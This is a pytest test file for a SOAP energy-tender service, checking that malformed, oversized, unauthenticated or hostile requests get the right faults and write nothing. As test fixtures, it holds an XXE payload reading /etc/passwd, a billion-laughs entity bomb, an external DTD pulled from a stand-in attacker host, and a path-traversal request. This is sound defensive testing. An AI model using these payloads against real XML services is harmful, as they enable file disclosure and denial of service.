"""Bad input gets a SOAP Fault that says what is wrong and where, and nothing is written."""

import os
from datetime import timedelta

import pytest
from lxml import etree
from sqlalchemy import func, select

from service.soap.ns import EMIX, SOAP11_ENV, WSSE, q
from service.store.tables import metadata
from tests.support import messages as msg

GOOD = msg.create_tender("r1", "party-A", "party-B", ("t1", msg.product()))


def rows_written(engine) -> int:
    """Rows in every table but those the fixture fills (parties, market contexts)."""
    with engine.connect() as conn:
        return sum(
            conn.execute(select(func.count()).select_from(table)).scalar_one()
            for table in metadata.sorted_tables
            if table.name not in ("party", "party_market_context", "party_group", "market_context")
        )


def signed(payload, user="party-A", password="secret-A", digest=False) -> bytes:
    return msg.envelope(payload, msg.username_token(user, password, digest=digest))


def test_malformed_xml_is_a_client_fault_naming_the_line(service, engine):
    reply = service.raw("/EiTender", signed(GOOD).replace(b"</soap:Body>", b"</soap:Bodyy>"))
    assert reply.faultcode.endswith("Client.MalformedXml")
    assert "line" in reply.faultstring
    assert rows_written(engine) == 0


def test_xxe_doctype_is_refused_before_parsing(service, engine):
    data = signed(GOOD).replace(
        b"<?xml version='1.0' encoding='UTF-8'?>",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ).replace(b"<pyld:requestID>r1", b"<pyld:requestID>&xxe;")
    reply = service.raw("/EiTender", data)
    assert reply.faultcode.endswith("Client.ForbiddenXml")
    assert "DOCTYPE" in reply.faultstring
    assert b"root:" not in reply.body
    assert rows_written(engine) == 0


def test_billion_laughs_is_refused(service, engine):
    entities = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    data = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]>'.encode()
        + signed(GOOD).split(b"?>", 1)[1].replace(b"<pyld:requestID>r1", b"<pyld:requestID>&l9;")
    )
    reply = service.raw("/EiTender", data)
    assert reply.faultcode.endswith("Client.ForbiddenXml")
    assert rows_written(engine) == 0


def test_external_dtd_is_refused(service):
    data = b'<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">' + signed(GOOD).split(b"?>", 1)[1]
    reply = service.raw("/EiTender", data)
    assert reply.faultcode.endswith("Client.ForbiddenXml")
    assert "line 2" in reply.faultstring


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-16-be"])
def test_a_doctype_in_another_encoding_is_refused_without_reading_the_file_it_names(service, engine, tmp_path, encoding):
    """A DOCTYPE that the byte check cannot see (UTF-16, UTF-32): the DTD it names is never
    opened (a malformed one would make the answer differ), so a missing file and an
    existing one get the same answer: no reading files, no telling which exist."""
    (tmp_path / "malformed.dtd").write_text("<!ELEMENT")
    answers = []
    for dtd in (tmp_path / "malformed.dtd", tmp_path / "missing.dtd"):
        prolog = f'<?xml version="1.0" encoding="{encoding.upper()}"?>\n<!DOCTYPE x SYSTEM "{dtd}">'
        data = (prolog + signed(GOOD).decode().split("?>", 1)[1]).encode(encoding)
        reply = service.raw("/EiTender", data)
        assert reply.faultcode.endswith("Client.ForbiddenXml"), reply.faultstring
        answers.append(reply.body)
    assert answers[0] == answers[1]
    assert rows_written(engine) == 0


def test_body_over_the_limit_is_refused_with_413(service, engine):
    big = msg.create_tender("r1", "party-A", "party-B", *[(f"t{i}", msg.product()) for i in range(2500)])
    data = signed(big)
    assert len(data) > 2 * 1024 * 1024
    reply = service.raw("/EiTender", data)
    assert reply.status == 413
    assert reply.faultcode.endswith("Client.RequestTooLarge")
    assert "2097152" in reply.faultstring
    assert rows_written(engine) == 0


def test_schema_invalid_payload_names_the_element_and_line(service, engine):
    bad = msg.create_tender("r1", "party-A", "party-B", ("t1", msg.product(side="hold")))
    reply = service.raw("/EiTender", signed(bad))
    assert reply.faultcode.endswith("Client.SchemaValidation")
    assert "emix:side" in reply.faultstring and "line" in reply.faultstring
    assert "hold" in reply.faultstring
    assert rows_written(engine) == 0


def test_missing_required_element_is_a_schema_fault(service):
    bad = msg.create_tender("r1", "party-A", "party-B", ("t1", msg.product()))
    bad.remove(bad.find(q(EMIX, "marketContext")) if bad.find(q(EMIX, "marketContext")) is not None else bad[2])
    reply = service.raw("/EiTender", signed(bad))
    assert reply.faultcode.endswith("Client.SchemaValidation")
    assert "counterPartyID" in reply.faultstring


def test_body_must_hold_exactly_one_payload(service):
    env = etree.fromstring(signed(GOOD))
    body = env[-1]
    body.append(etree.fromstring(etree.tostring(body[0])))
    reply = service.raw("/EiTender", etree.tostring(env))
    assert reply.faultcode.endswith("Client.SoapEnvelope")
    assert "exactly one" in reply.faultstring


def test_a_soap_12_envelope_gets_a_soap_11_version_mismatch(service, engine):
    # SOAP 1.1 section 4.4.1: an Envelope in another namespace is a VersionMismatch fault
    soap12 = signed(GOOD).replace(b"http://schemas.xmlsoap.org/soap/envelope/", b"http://www.w3.org/2003/05/soap-envelope")
    reply = service.raw("/EiTender", soap12)
    assert (reply.status, reply.faultcode) == (500, "soap11env:VersionMismatch")
    assert "2003/05/soap-envelope" in reply.faultstring
    assert rows_written(engine) == 0


def test_a_root_that_is_no_envelope_is_a_client_fault(service):
    reply = service.raw("/EiTender", etree.tostring(GOOD))
    assert reply.faultcode == "soap11env:Client.SoapEnvelope"
    assert "eiCreateTender" in reply.faultstring


def with_wsa_action(**soap_attributes: str) -> bytes:
    """GOOD, signed, with a WS-Addressing Action header carrying SOAP 1.1 attributes."""
    return msg.envelope(GOOD, msg.username_token("party-A", "secret-A"), headers=[msg.wsa_action(**soap_attributes)])


def test_a_header_we_must_understand_but_do_not_is_refused(service, engine):
    reply = service.raw("/EiTender", with_wsa_action(mustUnderstand="1"))
    assert (reply.status, reply.faultcode) == (500, "soap11env:MustUnderstand")
    assert "addressing}Action" in reply.faultstring and "line" in reply.faultstring
    scope = msg.distribution_scope(["north"])  # understood for EiDistributeTender only
    scope.set(q(SOAP11_ENV, "mustUnderstand"), "1")
    reply = service.raw("/EiTender", msg.envelope(GOOD, msg.username_token("party-A", "secret-A"), headers=[scope]))
    assert reply.faultcode == "soap11env:MustUnderstand" and "eiCreateTender" in reply.faultstring
    assert rows_written(engine) == 0


@pytest.mark.parametrize(
    "attributes",
    [{"mustUnderstand": "0"}, {"mustUnderstand": "1", "actor": "urn:example:an-intermediary"}, {}],
    ids=["optional", "for another node", "unmarked"],
)
def test_headers_we_need_not_understand_are_ignored(service, attributes):
    reply = service.raw("/EiTender", with_wsa_action(**attributes))
    assert reply.code == "200"


def test_the_security_header_may_be_marked_must_understand(service):
    envelope = etree.fromstring(signed(GOOD))
    envelope.find(f".//{q(WSSE, 'Security')}").set(q(SOAP11_ENV, "mustUnderstand"), "1")
    assert service.raw("/EiTender", etree.tostring(envelope)).code == "200"


def test_payload_sent_to_the_wrong_endpoint_is_refused(service):
    reply = service.raw("/EiTransaction", signed(GOOD))
    assert reply.faultcode.endswith("Client.SoapEnvelope")
    assert "eiCreateTender" in reply.faultstring


def test_unauthenticated_request_is_refused(service, engine):
    reply = service.raw("/EiTender", msg.envelope(GOOD))
    assert reply.faultcode.endswith("wsse:FailedAuthentication")
    assert rows_written(engine) == 0


@pytest.mark.parametrize("digest", [False, True])
def test_wrong_password_is_refused(service, engine, clock, digest):
    created = clock.now.strftime("%Y-%m-%dT%H:%M:%SZ")
    token = msg.username_token("party-A", "wrong", digest=digest, created=created)
    reply = service.raw("/EiTender", msg.envelope(GOOD, token))
    assert reply.faultcode.endswith("wsse:FailedAuthentication")
    assert rows_written(engine) == 0


def test_unknown_party_is_refused_like_a_wrong_password(service):
    reply = service.raw("/EiTender", signed(GOOD, user="mallory", password="x"))
    assert reply.faultcode.endswith("wsse:FailedAuthentication")
    assert "mallory" not in reply.faultstring


def test_password_digest_is_accepted(service, clock):
    token = msg.username_token("party-A", "secret-A", digest=True, created=clock.now.strftime("%Y-%m-%dT%H:%M:%SZ"))
    reply = service.raw("/EiTender", msg.envelope(GOOD, token))
    assert reply.code == "200"


def test_replayed_digest_is_refused(service, engine, clock):
    created = clock.now.strftime("%Y-%m-%dT%H:%M:%SZ")
    token = msg.username_token("party-A", "secret-A", digest=True, nonce=b"0123456789abcdef", created=created)
    first = service.raw("/EiTender", msg.envelope(GOOD, token))
    assert first.code == "200"
    replay = service.raw("/EiTender", msg.envelope(msg.request_tender("q1", "party-A"), token))
    assert replay.faultcode.endswith("wsse:FailedAuthentication")
    assert "replay" in replay.faultstring


def test_digest_outside_the_clock_skew_is_refused(service, clock):
    stale = (clock.now - timedelta(minutes=10)).strftime("%Y-%m-%dT%H:%M:%SZ")
    token = msg.username_token("party-A", "secret-A", digest=True, nonce=os.urandom(16), created=stale)
    reply = service.raw("/EiTender", msg.envelope(GOOD, token))
    assert reply.faultcode.endswith("wsse:FailedAuthentication")
    assert "skew" in reply.faultstring


def test_impersonating_another_party_is_refused(service, engine):
    reply = service.raw("/EiTender", signed(GOOD, user="party-B", password="secret-B"))
    assert reply.faultcode.endswith("Client.NotAuthorized")
    assert "party-B" in reply.faultstring and "party-A" in reply.faultstring
    assert rows_written(engine) == 0


def test_requestor_must_be_the_authenticated_party(service):
    ask = msg.request_tender("q1", "party-B")
    ask.find("{http://docs.oasis-open.org/ns/energyinterop/201110/cts.04}requestorPartyID").text = "party-A"
    reply = service.raw("/EiTender", signed(ask, user="party-B", password="secret-B"))
    assert reply.faultcode.endswith("Client.NotAuthorized")


def test_wsdl_is_served_with_the_callers_address(service):
    reply = service.raw("/EiTender", b"", method="GET", query="wsdl")
    assert reply.status == 200
    assert b'location="http://localhost:8080/EiTender"' in reply.body
    schema = service.raw("/oasis/cts-xsd/EiPayloads.xsd", b"", method="GET")
    assert schema.status == 200 and b"eiCreateTender" in schema.body
    assert service.raw("/../service/config.py", b"", method="GET").status == 404
    assert service.raw("/oasis/README.md", b"", method="GET").status == 404
